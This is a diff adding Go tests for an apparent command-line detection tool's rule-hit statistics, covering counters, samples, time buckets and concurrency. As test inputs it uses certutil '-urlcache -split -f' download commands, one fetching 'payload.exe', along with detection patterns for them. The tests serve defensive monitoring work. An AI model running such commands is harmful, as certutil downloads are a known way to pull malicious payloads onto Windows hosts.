@@ -0,0 +1,111 @@
+package main
+
+import (
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+func TestRecordRuleHit(t *testing.T) {
+	rule := t.Name()
+	t.Cleanup(func() { ruleStats.Delete(rule) })
+	at := time.Now()
+
+	recordRuleHit(rule, []string{"-urlcache", "-split"}, true, "certutil -urlcache -split -f http://a/b", at)
+	recordRuleHit(rule, []string{"-urlcache"}, false, "certutil -urlcache", at)
+	recordRuleSuppressed(rule)
+
+	stats := countersFor(rule).snapshot(time.Minute, at.Add(-time.Minute))
+	if stats.Total != 2 || stats.Suspicious != 1 || stats.Suppressed != 1 {
+		t.Errorf("total, suspicious, suppressed = %d, %d, %d, want 2, 1, 1", stats.Total, stats.Suspicious, stats.Suppressed)
+	}
+	if stats.Patterns["-urlcache"] != 2 || stats.Patterns["-split"] != 1 {
+		t.Errorf("patterns = %v", stats.Patterns)
+	}
+	if stats.LastHit == nil || !stats.LastHit.Equal(time.Unix(0, at.UnixNano())) {
+		t.Errorf("last hit = %v, want %v", stats.LastHit, at)
+	}
+	var total, suspicious uint64
+	for _, b := range stats.Buckets {
+		total += b.Total
+		suspicious += b.Suspicious
+	}
+	if total != 2 || suspicious != 1 {
+		t.Errorf("buckets count %d hits, %d suspicious, want 2, 1", total, suspicious)
+	}
+}
+
+func TestRecordRuleHitSamples(t *testing.T) {
+	rule := t.Name()
+	t.Cleanup(func() { ruleStats.Delete(rule) })
+	for i := 0; i < statsSampleSize+2; i++ {
+		recordRuleHit(rule, nil, true, strings.Repeat("x", i+1), time.Now())
+	}
+	samples := countersFor(rule).snapshot(0, time.Time{}).Samples
+	if len(samples) != statsSampleSize {
+		t.Fatalf("%d samples kept, want %d", len(samples), statsSampleSize)
+	}
+	for _, sample := range samples {
+		if len(sample) <= 2 {
+			t.Errorf("sample %q should have been replaced by a newer one", sample)
+		}
+	}
+}
+
+func TestRecordRuleHitSlotReuse(t *testing.T) {
+	rule := t.Name()
+	t.Cleanup(func() { ruleStats.Delete(rule) })
+	old := time.Unix(1700000000, 0)
+	// The same slot a day later
+	later := old.Add(statsBucketSlots * time.Minute)
+	recordRuleHit(rule, nil, true, "old", old)
+
+	const workers, hits = 8, 500
+	var wg sync.WaitGroup
+	for w := 0; w < workers; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < hits; i++ {
+				recordRuleHit(rule, nil, i%2 == 0, "new", later)
+			}
+		}()
+	}
+	wg.Wait()
+
+	minute := later.Unix() / 60
+	total, suspicious := countersFor(rule).slots[minute%statsBucketSlots].counts(minute)
+	if total != workers*hits || suspicious != workers*hits/2 {
+		t.Errorf("slot counts %d hits, %d suspicious, want %d, %d", total, suspicious, workers*hits, workers*hits/2)
+	}
+	if total, _ := countersFor(rule).slots[minute%statsBucketSlots].counts(old.Unix() / 60); total != 0 {
+		t.Errorf("the reused slot still reports %d hits for the old minute", total)
+	}
+}
+
+func TestRecordEventStoresTruncatedSample(t *testing.T) {
+	withConfig(t, func(c *Config) { c.MaxStoredCommandLine = 64 })
+	t.Cleanup(func() { ruleStats.Delete("certutil.exe") })
+	ruleStats.Delete("certutil.exe")
+
+	event := evaluate(`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://example.com/`+strings.Repeat("a", 200))
+	recordEvent(event)
+	samples := countersFor("certutil.exe").snapshot(0, time.Time{}).Samples
+	if len(samples) != 1 || len(samples[0]) != 64 {
+		t.Fatalf("samples = %q, want one of 64 bytes", samples)
+	}
+}
+
+func BenchmarkRecordRuleHit(b *testing.B) {
+	const rule = "benchmark.exe"
+	b.Cleanup(func() { ruleStats.Delete(rule) })
+	patterns := []string{"-urlcache", "-split"}
+	cmdLine := "certutil.exe -urlcache -split -f http://example.com/payload.exe"
+	b.ReportAllocs()
+	b.RunParallel(func(pb *testing.PB) {
+		for pb.Next() {
+			recordRuleHit(rule, patterns, true, cmdLine, time.Now())
+		}
+	})
+}